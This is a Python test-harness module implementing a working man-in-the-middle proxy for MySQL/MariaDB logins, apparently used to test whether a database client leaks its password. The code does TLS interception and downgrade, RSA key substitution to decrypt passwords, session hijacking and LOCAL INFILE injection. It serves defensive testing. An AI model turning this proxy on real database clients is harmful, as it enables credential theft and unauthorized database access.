"""A man-in-the-middle in front of a real MySQL/MariaDB: an impostor of another design than fake_mysql.

Not part of the Lambda artifact. Where devkit/fake_mysql.py is a threaded server that scripts a
whole login by itself, this is an asyncio proxy (its own event loop in one background thread) that
relays a *real* server's greeting (real version, salt and capabilities, edited as a trick says),
terminates the client's TLS with whatever certificate it is given (self-signed, another host's,
a trusted one), injects packets into the login (auth switches, full-authentication requests, its
own RSA public key, odd sequence ids, malformed plugin names...), and then, unless the client gave
up, forwards the client's own first answer to the real server and relays the rest of the login and
the session. So a login the client accepts ends in a real session, which the proxy may use first
for a statement of its own (``hijack``): what a relay attack gets without ever learning the password.

Everything the client sent (its first answer, every reply to an injected packet, every byte after
the login) is recorded in plain text, and every client packet that could be RSA-encrypted is
decrypted with the proxy's private key and XORed with every salt the client was given, so that a
test can say exactly what the impostor learnt.

Protocol: https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_connection_phase.html
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import struct
import threading
from dataclasses import dataclass, field
from types import TracebackType
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from devkit.tls import ServerCertificate

__all__ = ["PUBLIC_KEY", "SALT", "Intercepted", "MitmProxy", "Step", "Trick", "ask", "send"]

CLIENT_SSL = 0x800
CLIENT_SECURE_CONNECTION = 0x8000
CLIENT_PLUGIN_AUTH = 0x80000
CLIENT_PLUGIN_AUTH_LENENC = 0x200000
_DEADLINE = 8.0  # seconds any single read may take before the proxy gives up on a session

# placeholders a Step's payload may hold, filled in per session
PUBLIC_KEY = b"<<the proxy's RSA public key>>"
SALT = b"<<the real server's salt>>"


@dataclass(frozen=True)
class Step:
    """One packet the proxy injects into the login; ``reply``: wait for the client's answer to it.
    ``seq``: an absolute sequence id (None: the next one, as a server would number it)."""

    payload: bytes
    reply: bool = True
    seq: int | None = None


def ask(payload: bytes, seq: int | None = None) -> Step:
    return Step(payload, True, seq)


def send(payload: bytes, seq: int | None = None) -> Step:
    return Step(payload, False, seq)


@dataclass(frozen=True)
class Trick:
    """What the proxy does to one login.

    ``greet_plugin``: the plugin name the greeting names instead of the real one (raw bytes: a NUL
    or non-UTF-8 byte goes through as it is). ``clear_caps``/``set_caps``: capability bits edited in
    the greeting. ``before_tls``: a packet sent in plain text right after the client's SSL request,
    instead of the TLS handshake. ``steps``: packets injected after the client's first answer.
    ``then``: ``relay`` (forward the client's first answer to the real server and relay the rest)
    or ``close``. ``ok_suffix``: bytes appended to the real server's final OK. ``hijack``: a
    statement the proxy runs on the client's session once the real server accepted the login.
    ``after_login``: a packet the proxy answers the client's first statement with instead of the
    real server's answer (e.g. a LOCAL INFILE request).
    """

    name: str
    greet_plugin: bytes | None = None
    clear_caps: int = 0
    set_caps: int = 0
    before_tls: bytes | None = None
    steps: tuple[Step, ...] = ()
    then: str = "relay"
    ok_suffix: bytes = b""
    hijack: bytes | None = None
    after_login: bytes | None = None


@dataclass
class Intercepted:
    """One client connection as the proxy saw it."""

    over_tls: bool = False
    asked_tls: bool = False
    salts: list[bytes] = field(default_factory=list, repr=False)
    packets: list[bytes] = field(default_factory=list, repr=False)  # every client packet of the login, decrypted
    session_bytes: bytearray = field(default_factory=bytearray, repr=False)  # every client byte after the login
    decrypted: list[bytes] = field(default_factory=list, repr=False)  # RSA blobs opened with the proxy's key
    gave_up_at: int | None = None  # the injected step after which the client closed (None: it never did)
    upstream_said: bytes | None = None  # the real server's last login packet
    hijacked: list[list[bytes]] | None = None  # rows of the proxy's own statement on the client's session
    notes: list[str] = field(default_factory=list)
    first_flags: int = 0  # the capability flags of the client's first answer (its HandshakeResponse)
    statements: list[bytes] = field(default_factory=list, repr=False)  # commands answered with ``after_login``

    def revealed(self, secret: str) -> bool:
        """Whether the proxy learnt ``secret``: in any packet, after the login, or decrypted with its key."""
        needle = secret.encode()
        return any(needle in blob for blob in [*self.packets, bytes(self.session_bytes), *self.decrypted])


def _packet(seq: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload


async def _read(reader: asyncio.StreamReader) -> tuple[bytes, int]:
    header = await asyncio.wait_for(reader.readexactly(4), _DEADLINE)
    length = int.from_bytes(header[:3], "little")
    payload = await asyncio.wait_for(reader.readexactly(length), _DEADLINE)
    return payload, header[3]


def _greeting_fields(greeting: bytes) -> dict[str, Any]:
    """Split a HandshakeV10 into the parts a trick edits."""
    at = greeting.index(b"\0", 1) + 1
    head = greeting[:at + 4]  # protocol, version, thread id
    salt1 = greeting[at + 4:at + 12]
    at += 13
    caps_low, = struct.unpack("<H", greeting[at:at + 2])
    charset = greeting[at + 2:at + 3]
    status = greeting[at + 3:at + 5]
    caps_high, = struct.unpack("<H", greeting[at + 5:at + 7])
    salt_len = greeting[at + 7]
    reserved = greeting[at + 8:at + 18]
    at += 18
    rest_len = max(13, salt_len - 8)
    salt2 = greeting[at:at + rest_len]
    at += rest_len
    end = greeting.find(b"\0", at)
    plugin = greeting[at:end if end >= 0 else len(greeting)]
    return {"head": head, "salt": salt1 + salt2.rstrip(b"\0"), "salt1": salt1, "salt2": salt2,
            "caps": caps_low | (caps_high << 16), "charset": charset, "status": status, "salt_len": salt_len,
            "reserved": reserved, "plugin": plugin}


def _rebuild_greeting(parts: dict[str, Any], caps: int, plugin: bytes) -> bytes:
    return (parts["head"] + parts["salt1"] + b"\0" + struct.pack("<H", caps & 0xFFFF)
            + parts["charset"] + parts["status"] + struct.pack("<H", caps >> 16)
            + bytes([parts["salt_len"]]) + parts["reserved"] + parts["salt2"] + plugin + b"\0")


class MitmProxy:
    """Listen on 127.0.0.1; relay every client to ``upstream`` playing ``trick``. ``certificate``: offer
    TLS with it (None: clear the greeting's SSL capability, a downgrade)."""

    def __init__(self, upstream: tuple[str, int], certificate: ServerCertificate | None, trick: Trick) -> None:
        self.upstream, self.trick = upstream, trick
        self.sessions: list[Intercepted] = []
        self._key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self._pem = self._key.public_key().public_bytes(serialization.Encoding.PEM,
                                                        serialization.PublicFormat.SubjectPublicKeyInfo)
        self._context: ssl.SSLContext | None = None
        if certificate is not None:
            self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self._context.load_cert_chain(certificate.cert, certificate.key)
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.setblocking(False)
        self.port = int(self._listener.getsockname()[1])
        self._tasks: set[asyncio.Task[None]] = set()
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._thread.start()
        self._acceptor = asyncio.run_coroutine_threadsafe(self._serve(), self._loop)

    def __enter__(self) -> MitmProxy:
        return self

    def __exit__(self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None) -> None:
        self.close()

    def close(self) -> None:
        async def stop() -> None:
            self._acceptor.cancel()
            for task in list(self._tasks):
                task.cancel()
            await asyncio.gather(*self._tasks, return_exceptions=True)

        with contextlib.suppress(Exception):
            asyncio.run_coroutine_threadsafe(stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=10)
        self._loop.close()
        self._listener.close()

    def wait_idle(self, timeout: float = 5.0) -> None:
        """Wait until every session ended (the proxy recorded all the client sent)."""
        async def idle() -> None:
            pending = [task for task in self._tasks if not task.done()]
            if pending:
                await asyncio.wait(pending, timeout=timeout)

        asyncio.run_coroutine_threadsafe(idle(), self._loop).result(timeout + 5)

    # --- one session ------------------------------------------------------------------------------------------

    async def _serve(self) -> None:
        while True:
            sock, _ = await self._loop.sock_accept(self._listener)
            task = self._loop.create_task(self._accept(sock))
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)

    async def _accept(self, sock: socket.socket) -> None:
        seen = Intercepted()
        self.sessions.append(seen)
        writer: asyncio.StreamWriter | None = None
        upstream_writer: asyncio.StreamWriter | None = None
        try:
            up_reader, upstream_writer = await asyncio.open_connection(*self.upstream)
            writer = await self._session(seen, sock, up_reader, upstream_writer)
        except (OSError, asyncio.IncompleteReadError, TimeoutError, ssl.SSLError, ValueError) as exc:
            seen.notes.append(f"{type(exc).__name__}: {exc}")
        except asyncio.CancelledError:
            seen.notes.append("cancelled")
        finally:
            for closing in (writer, upstream_writer):
                if closing is not None:
                    with contextlib.suppress(Exception):
                        closing.close()
            with contextlib.suppress(OSError):
                sock.close()

    async def _raw_read(self, sock: socket.socket) -> tuple[bytes, int]:
        """A packet read off the socket itself, never a byte more (what follows may be a TLS ClientHello)."""
        async def exactly(n: int) -> bytes:
            data = b""
            while len(data) < n:
                chunk = await self._loop.sock_recv(sock, n - len(data))
                if not chunk:
                    raise asyncio.IncompleteReadError(data, n)
                data += chunk
            return data

        header = await asyncio.wait_for(exactly(4), _DEADLINE)
        payload = await asyncio.wait_for(exactly(int.from_bytes(header[:3], "little")), _DEADLINE)
        return payload, header[3]

    async def _streams(self, sock: socket.socket, context: ssl.SSLContext | None,
                       ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Streams over the accepted socket, after a server-side TLS handshake when ``context`` is given."""
        reader = asyncio.StreamReader()
        protocol = asyncio.StreamReaderProtocol(reader)
        transport, _ = await self._loop.connect_accepted_socket(lambda: protocol, sock, ssl=context,
                                                                ssl_handshake_timeout=_DEADLINE if context else None)
        return reader, asyncio.StreamWriter(transport, protocol, reader, self._loop)

    async def _session(self, seen: Intercepted, sock: socket.socket, up_reader: asyncio.StreamReader,
                       up_writer: asyncio.StreamWriter) -> asyncio.StreamWriter | None:
        trick = self.trick
        greeting, _ = await _read(up_reader)
        parts = _greeting_fields(greeting)
        salt: bytes = parts["salt"]
        seen.salts.append(salt[:20])
        caps = int(parts["caps"])
        caps = (caps | CLIENT_SSL) if self._context else (caps & ~CLIENT_SSL)
        caps = (caps & ~trick.clear_caps) | trick.set_caps
        plugin = parts["plugin"] if trick.greet_plugin is None else trick.greet_plugin
        await self._loop.sock_sendall(sock, _packet(0, _rebuild_greeting(parts, caps, plugin)))

        payload, seq = await self._raw_read(sock)
        context = None
        if struct.unpack("<I", payload[:4])[0] & CLIENT_SSL and len(payload) == 32:
            seen.asked_tls = True
            if trick.before_tls is not None:  # no TLS: an answer in plain text where the handshake should be
                await self._loop.sock_sendall(sock, _packet(seq + 1, trick.before_tls))
                reader, writer = await self._streams(sock, None)
                await self._drain_client(seen, reader)
                return writer
            if self._context is None:
                seen.notes.append("the client asked for TLS the proxy did not offer")
                return None
            context = self._context
        reader, writer = await self._streams(sock, context)
        if context is not None:
            seen.over_tls = True
            payload, seq = await _read(reader)
        seen.packets.append(payload)
        seen.first_flags = struct.unpack("<I", payload[:4])[0]
        first_answer = payload

        for index, step in enumerate(trick.steps):
            data = step.payload.replace(PUBLIC_KEY, self._pem).replace(SALT, salt[:20])
            if step.payload.startswith(b"\xfe"):
                seen.salts.append(_switch_salt(data))
            seq = (seq + 1) if step.seq is None else step.seq
            writer.write(_packet(seq, data))
            await writer.drain()
            if not step.reply:
                continue
            try:
                answer, seq = await _read(reader)
            except (asyncio.IncompleteReadError, ConnectionError):
                seen.gave_up_at = index
                return writer
            seen.packets.append(answer)
            self._decrypt(seen, answer)

        if trick.then != "relay":
            await self._drain_client(seen, reader)
            return writer
        await self._relay_login(seen, reader, writer, up_reader, up_writer, first_answer, seq)
        return writer

    async def _relay_login(self, seen: Intercepted, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                           up_reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter, first_answer: bytes,
                           client_seq: int) -> None:
        """The client's first answer (TLS flag cleared) to the real server, then its login and the session."""
        flags = struct.unpack("<I", first_answer[:4])[0] & ~CLIENT_SSL
        up_writer.write(_packet(1, struct.pack("<I", flags) + first_answer[4:]))
        await up_writer.drain()
        while True:
            said, up_seq = await _read(up_reader)
            seen.upstream_said = said
            if said[:1] == b"\x00":
                if self.trick.hijack is not None:
                    seen.hijacked = await _run(up_reader, up_writer, self.trick.hijack)
                writer.write(_packet(client_seq + 1, said + self.trick.ok_suffix))
                await writer.drain()
                break
            writer.write(_packet(client_seq + 1, said))
            await writer.drain()
            if said[:1] == b"\xff":
                await self._drain_client(seen, reader)
                return
            if said[:1] == b"\xfe":
                seen.salts.append(_switch_salt(said))
            answer, client_seq = await _read(reader)
            seen.packets.append(answer)
            self._decrypt(seen, answer)
            up_writer.write(_packet(up_seq + 1, answer))
            await up_writer.drain()
        if self.trick.after_login is not None:  # every statement answered with it
            with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError, TimeoutError):
                while True:
                    statement, _ = await _read(reader)
                    seen.session_bytes += statement
                    seen.statements.append(statement)
                    if statement[:1] == b"\x01":  # COM_QUIT
                        return
                    writer.write(_packet(1, self.trick.after_login))
                    await writer.drain()
            return
        await self._splice(seen, reader, writer, up_reader, up_writer)

    async def _splice(self, seen: Intercepted, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                      up_reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter) -> None:
        async def pump(source: asyncio.StreamReader, sink: asyncio.StreamWriter, record: bool) -> None:
            while chunk := await source.read(65536):
                if record:
                    seen.session_bytes += chunk
                sink.write(chunk)
                await sink.drain()

        done, pending = await asyncio.wait(
            [asyncio.ensure_future(pump(reader, up_writer, True)),
             asyncio.ensure_future(pump(up_reader, writer, False))],
            timeout=30, return_when=asyncio.FIRST_COMPLETED)
        for task in pending:
            task.cancel()
        for task in done:
            with contextlib.suppress(Exception):
                task.result()

    async def _drain_client(self, seen: Intercepted, reader: asyncio.StreamReader) -> None:
        """Record whatever else the client sends until it closes."""
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError, TimeoutError, ssl.SSLError):
            while True:
                answer, _ = await _read(reader)
                seen.packets.append(answer)
                self._decrypt(seen, answer)

    def _decrypt(self, seen: Intercepted, blob: bytes) -> None:
        if len(blob) != self._key.key_size // 8:
            return
        oaep = padding.OAEP(mgf=padding.MGF1(algorithm=hashes.SHA1()), algorithm=hashes.SHA1(),  # noqa: S303
                            label=None)
        try:
            plain = self._key.decrypt(blob, oaep)
        except ValueError:
            return
        seen.decrypted.append(plain)
        for salt in seen.salts:
            if salt:
                seen.decrypted.append(bytes(b ^ salt[i % len(salt)] for i, b in enumerate(plain)))


def _switch_salt(switch: bytes) -> bytes:
    end = switch.find(b"\0", 1)
    return switch[end + 1:].rstrip(b"\0")[:20] if end >= 0 else b""


async def _run(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, statement: bytes) -> list[list[bytes]]:
    """COM_QUERY on the relayed session (text protocol, EOF-terminated result sets: PyMySQL's capabilities)."""
    writer.write(_packet(0, b"\x03" + statement))
    await writer.drain()
    first, _ = await _read(reader)
    if first[:1] in (b"\x00", b"\xff"):
        return []
    for _ in range(first[0]):
        await _read(reader)  # column definitions
    await _read(reader)  # EOF
    rows: list[list[bytes]] = []
    while True:
        row, _ = await _read(reader)
        if row[:1] == b"\xfe" and len(row) < 9:
            return rows
        values, at = [], 0
        while at < len(row):
            length = row[at]
            values.append(row[at + 1:at + 1 + length])
            at += 1 + length
        rows.append(values)
